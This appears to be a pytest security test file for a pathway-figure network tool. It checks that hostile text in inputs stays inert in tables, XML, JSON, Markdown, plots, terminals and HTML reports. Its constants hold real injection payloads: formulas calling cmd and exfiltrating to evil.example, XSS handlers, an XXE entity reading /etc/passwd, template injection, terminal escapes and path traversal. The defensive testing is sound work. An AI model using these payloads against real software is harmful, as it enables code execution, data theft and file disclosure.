"""Texts that would like to be more than text, in every field of every input: inert in everything that is written."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from chromium import Page, browser_page
from lxml import etree

from pfocr_graph import FigureCorpus, build_network, read_corpus, read_network
from pfocr_graph.cli import main
from pfocr_graph.node_tables import EUROPE_PMC, NCBI, NDEX, PFOCR
from pfocr_graph.plain_text import as_cell, as_json_text, as_markdown, one_line, visible
from pfocr_graph.records import Figure, FigureRecord

CYTOSCAPE = Path(__file__).parent / "browser" / "node_modules" / "cytoscape" / "dist" / "cytoscape.min.js"

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"pwned")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',
    '""=1+1',
    "\uff1d1+1",
    " =1+1",
)
MARKDOWN = (
    "[click](javascript:window.pwned=1)",
    "![pwned](https://evil.example/x.png)",
    "<javascript:window.pwned=1>",
    "**pwned** _pwned_ ~~pwned~~ `pwned`",
    "a | b \\| c &lt;b&gt; &#60;b&#62;",
    "[x]: https://evil.example",
)
MARKUP = (
    "<script>window.pwned = 1</script>",
    "</script></style></title></table><svg onload='window.pwned = 1'>",
    '" onmouseover="window.pwned = 1" style=\'background:url(https://evil.example)\'',
    "javascript:window.pwned = 1",
    "]]><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;<?xml-stylesheet href='x'?>",
    "<style>@import 'https://evil.example'; * {background: url(https://evil.example)}</style>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} $\\frac{$ %s {0}",
)
TERMINAL = (
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
    "\x9b31mred \x85 \u2028",
    "\u202egnp.exe \u2066 \u200b \ufeff",
    "a\x08\x08\rb\x7f\x0b\x0c",
)
HOSTILE = (*FORMULAS, *MARKDOWN, *MARKUP, *TERMINAL)
UNSEEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028\u202a-\u202e\u2066-\u2069\ufeff]")

N_FIGURES = 8


def text(number: int) -> str:
    return HOSTILE[number % len(HOSTILE)]


def page(number: int, shift: int) -> str:
    """Return a page with a hostile text wherever one may stand."""
    keys = ("figtitle", "papertitle", "reftext", "caption", "number", "filename", "figlink", "doi", "ndex", "pmcid")
    values = {key: text(shift + at) for at, key in enumerate(keys)}
    values |= {"year": text(shift), "pathway_score": text(shift + 1)} if number == 0 else {"year": "2001"}
    lines = [f"{key}: {json.dumps(value)}" for key, value in values.items()]
    lines += [f"organisms: [{json.dumps(text(shift + 3))}]", f"figid_alias: {json.dumps(text(shift + 4))}"]
    rows = []
    for at in range(len(HOSTILE)):
        cells = {"word": text(at), "symbol": f"{text(at)}", "source": "hgnc_symbol", "hgnc_symbol": text(at)}
        rows.append(
            {**cells, "entrez": str(1000 + at)} if at % 3 != shift % 3 or number < 4 else {**cells, "entrez": "x\x1b"}
        )
    figid = f"PMC{number}__{one_line(text(shift)).replace('/', ' ').strip()}"
    return "\n".join(["---", f"figid: {json.dumps(figid)}", *lines, f"genes: {json.dumps(rows)}", "---", ""])


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Pages, a mention table, a GMT and years, all hostile; names of files too."""
    folder = tmp_path_factory.mktemp("site")
    for number in range(N_FIGURES):
        name = (
            f"{number} <img src=x onerror='window.pwned=1'> \x1b[31m =1+1.md"
            if sys.platform != "win32"
            else f"{number}.md"
        )
        (folder / name).write_text(page(number, 5 * number), encoding="utf-8")
    table = io.StringIO()
    writer = csv.writer(table, delimiter="\t", lineterminator="\n")
    writer.writerow(["figid", "pmcid", "word", "symbol", "source", "hgnc_symbol", "entrez"])
    for at, each in enumerate(HOSTILE):
        clean = each.replace("\r", " ")
        writer.writerow([f"PMC9__{clean}", clean, clean, clean, "famplex_relations", clean, str(2000 + at)])
        writer.writerow(["../../../pwned", "..", "../pwned", "../pwned", "hgnc_symbol", "../pwned", str(3000 + at % 3)])
    (folder / "genes.tsv").write_text(table.getvalue(), encoding="utf-8")
    one_cell = [re.sub("[\t\r\n]", " ", each) for each in HOSTILE]
    titles = [f"PMC{50 + at}__f\t{each}\t207\t208\n" for at, each in enumerate(one_cell)]
    (folder / "a-gmt-Homo_sapiens.gmt").write_text("".join(titles), encoding="utf-8")
    (folder / "years.csv").write_text("figid,year\n" + "".join(f'"PMC9__{at}","\x1b[31m{at}"\n' for at in range(3)))
    return folder


@pytest.fixture(scope="module")
def built(site: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """What a build of it wrote, and what it said."""
    out = tmp_path_factory.mktemp("built")
    told = io.StringIO()
    choices = ["--year-table", str(site / "years.csv"), "--evidence", "--thumbnails", "--min-figures", "1"]
    formats = ["--to", "cx2,cx,cyjs,graphml,hif,tsv,gmt", "--name", HOSTILE[0] + HOSTILE[13] + HOSTILE[-4]]
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(sys, "stderr", told)
        assert main(["build", str(site), "-o", str(out / "x"), *formats, *choices]) == 0
    assert [path.name for path in out.iterdir()] == ["x"]
    return out / "x", told.getvalue()


def test_what_a_build_says_obeys_no_terminal(built: tuple[Path, str]) -> None:
    assert not UNSEEN.search(built[1])
    assert "gene id is not a number" in built[1]
    assert "\\x1b" in built[1]


def test_nothing_is_written_outside_the_folder_whatever_figures_are_called(site: Path, built: tuple[Path, str]) -> None:
    assert not list(site.parent.parent.rglob("pwned*"))
    assert not list(built[0].parent.parent.glob("pwned*"))


def test_files_of_an_archive_or_a_packed_corpus_go_nowhere_else(site: Path, tmp_path: Path) -> None:
    place = tmp_path / "deep" / "deeper"
    place.mkdir(parents=True)
    assert main(["pack", str(site), "-o", str(place / "a.pfocr")]) == 0
    assert main(["build", str(place / "a.pfocr"), "-o", str(place / "out"), "--quiet", "--layout", "none"]) == 0
    assert [path.name for path in tmp_path.iterdir()] == ["deep"]
    assert sorted(path.name for path in place.iterdir()) == ["a.pfocr", "out"]
    assert "../../../pwned" in [figure.figid for figure in read_corpus(place / "a.pfocr").figure_list]


def test_no_cell_of_a_table_is_a_formula_to_a_spreadsheet(built: tuple[Path, str]) -> None:
    n_guarded = 0
    for path in built[0].glob("*.tsv"):
        lines = [line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("# ")]
        rows = list(csv.reader(lines, delimiter="\t"))
        assert len(rows) == len(lines)
        assert {len(row) for row in rows} == {len(rows[0])}, path.name
        for cell in (cell for row in rows for cell in row):
            assert not UNSEEN.search(cell)
            if re.match(r"\s*[=+\-@\uff1d]", cell):
                float(cell)
            n_guarded += cell.startswith("'=")
    assert n_guarded > 10


@pytest.mark.parametrize(
    "text", ["-", "+", "-1", "+1", "-0.5", "1e-5", "α-catenin", "5-HT", "NO", "'", "a=b", "x@y", "", "<="]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert as_cell(text) == text


def test_programs_get_every_text_as_it_is(built: tuple[Path, str]) -> None:
    """A network in a format for programs has what was read, guarded by nothing but the format itself."""
    exact = read_network(built[0] / "network.cx2")
    symbols = set(exact.node_tables["gene"].columns["symbol"].values())
    assert set(HOSTILE) & symbols > set(FORMULAS[:5])
    for name in ("network-tsv", "network.cx", "network.cyjs"):
        other = read_network(built[0] / name)
        assert set(other.node_tables["gene"].columns["symbol"].values()) == symbols, name


def test_xml_and_json_hold_texts_as_texts(built: tuple[Path, str]) -> None:
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    tree = etree.parse(str(built[0] / "network.graphml"), parser)
    assert {etree.QName(each).localname for each in tree.iter(etree.Element)} <= {
        "graphml",
        "key",
        "graph",
        "node",
        "edge",
        "data",
        "default",
        "desc",
    }
    (comment,) = tree.iter(etree.Comment, etree.ProcessingInstruction, etree.Entity)
    assert comment.text.startswith(" The items of a list are joined with |")
    assert tree.docinfo.doctype == ""
    summary = (built[0] / "summary.json").read_text(encoding="utf-8")
    assert not UNSEEN.search(summary)
    assert json.loads(summary)["counts"]["figures"] > N_FIGURES
    for name in ("network.cx2", "network.cx", "network.cyjs", "network.hif.json"):
        json.loads((built[0] / name).read_text(encoding="utf-8"), parse_constant=pytest.fail)


COMMANDS: dict[str, Callable[[Path, Path], list[object]]] = {
    "info": lambda site, _: ["info", site],
    "why": lambda site, _: ["why", "1000", "1001", site],
    "centrality": lambda site, _: ["centrality", site],
    "shared-genes": lambda site, _: ["shared-genes", site],
    "compare": lambda _, out: ["compare", out / "network.cx2", out / "network.graphml"],
    "check": lambda _, out: ["check", out / "network.cx2", out / "network.graphml"],
}


@pytest.mark.parametrize("table_format", ["tsv", "json", "markdown"])
@pytest.mark.parametrize("command", COMMANDS)
def test_what_is_printed_obeys_no_terminal(
    command: str, table_format: str, site: Path, built: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    arguments = COMMANDS[command](site, built[0])
    assert main([*map(str, arguments), "--format", table_format]) in {0, 1}
    printed = capsys.readouterr()
    assert printed.out
    assert not UNSEEN.search(printed.out + printed.err)
    if table_format == "json":
        json.loads(printed.out)
    if table_format == "markdown":
        check_markdown(printed.out)


def check_markdown(printed: str) -> None:
    """Let a reader of Markdown look for anything that is more than text in a table."""
    markdown = pytest.importorskip("markdown_it")
    reader = markdown.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = reader.parse(printed)
    kinds = {token.type for token in tokens}
    inner = {child.type for token in tokens for child in token.children or ()}
    of_table = {f"{part}_{end}" for part in ("table", "thead", "tbody", "tr", "th", "td") for end in ("open", "close")}
    assert kinds <= of_table | {"paragraph_open", "paragraph_close", "inline"}
    assert inner <= {"text", "softbreak", "text_special"}
    widths = {len(row.split("</td>")) for row in reader.render(printed).split("<tr>") if "</td>" in row}
    assert widths


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markdown_shows_a_text_as_it_is(hostile: str) -> None:
    markdown = pytest.importorskip("markdown_it")
    reader = markdown.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = reader.parse(f"| a |\n| --- |\n| {as_markdown(hostile)} |\n")
    cells = [token for token in tokens if token.type == "inline"]
    shown = "".join(child.content for child in cells[1].children or ())
    assert shown.split() == one_line(hostile).split()
    assert len(cells) == 2


def test_texts_for_people_come_back_from_json_and_are_seen_on_a_terminal() -> None:
    for hostile in (*HOSTILE, "\ud800 \U000e0001"):
        assert json.loads(as_json_text([hostile])) == [hostile]
        assert not UNSEEN.search(as_json_text([hostile]) + visible(hostile) + one_line(hostile) + as_cell(hostile))


@pytest.mark.parametrize("name", ["network", "degrees", "centrality", "years", "shared"])
def test_a_plot_shows_texts_as_texts(name: str, site: Path, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    path = tmp_path / "plot.svg"
    assert main(["plot", name, str(site), "-o", str(path)]) == 0
    root = etree.parse(str(path), etree.XMLParser(resolve_entities=False)).getroot()
    assert not root.xpath("//*[local-name()='script' or local-name()='foreignObject' or local-name()='a']")
    assert not root.xpath("//@*[starts-with(local-name(), 'on')]")
    for link in root.xpath("//@*[local-name()='href']"):
        assert link.startswith(("#", "data:image/png;base64,"))


def test_an_address_leads_to_the_site_it_should() -> None:
    """Whatever an id or link holds: no other host, and no second address behind a space."""
    texts = (*HOSTILE, "@evil.example/", ".evil.example", "//evil.example", "\\evil.example", "a b https://e")
    figures = [
        Figure(f"PMC{at}__{each}", each, filename=each, figlink=each, ndex=each) for at, each in enumerate(texts)
    ]
    corpus = FigureCorpus.from_records(FigureRecord(figure, (), "legacy", "none", "here") for figure in figures)
    columns = build_network(corpus, network="bipartite").node_tables["figure"].columns
    hosts = {"figure_url": NCBI, "paper_url": NCBI, "image_url": EUROPE_PMC, "pfocr_url": PFOCR, "ndex_url": NDEX}
    for name, host in hosts.items():
        found = [address for address in columns[name].values() if address is not None]
        assert len(found) > len(texts) - 3
        for address in found:
            assert f"https://{urlsplit(address).netloc}" == host
            assert re.fullmatch(r"[!-~]+", address)
            assert not set(address) & set("<>\"'`\\^{|}[]()")


@pytest.fixture(scope="module")
def browser(chromium: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    with browser_page(chromium, tmp_path_factory.mktemp("profile")) as opened:
        yield opened


def test_the_report_and_the_page_of_a_network_run_nothing(
    browser: Page, built: tuple[Path, str], tmp_path: Path
) -> None:
    pages: list[tuple[Path, str]] = [(built[0] / "report.html", "true")]
    if CYTOSCAPE.is_file():
        drawn = tmp_path / "page.html"
        assert main(["view", str(built[0] / "network.cx2"), "-o", str(drawn), "--script", str(CYTOSCAPE)]) == 0
        pages.append(
            (drawn, "typeof cy === 'object' && document.getElementById('status').textContent.includes('drawn')")
        )
    for path, is_ready in pages:
        browser.requests.clear()
        browser.open(path)
        browser.wait_for(is_ready)
        found: dict[str, Any] = browser.value(
            "({pwned: typeof window.pwned, scripts: document.scripts.length,"
            " links: [...document.querySelectorAll('a[href]')].map(a => a.protocol),"
            " odd: document.querySelectorAll('iframe, object, embed, base, img, foreignObject').length,"
            " handlers: [...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
            ".filter(a => /^on/.test(a.name)).length})"
        )
        assert found["pwned"] == "undefined", path.name
        assert set(found["links"]) <= {"https:", "file:"}
        assert (found["odd"], found["handlers"]) == (0, 0)
        assert {urlsplit(url).netloc for url in browser.requests} <= {"europepmc.org"}  # thumbnails, as asked for
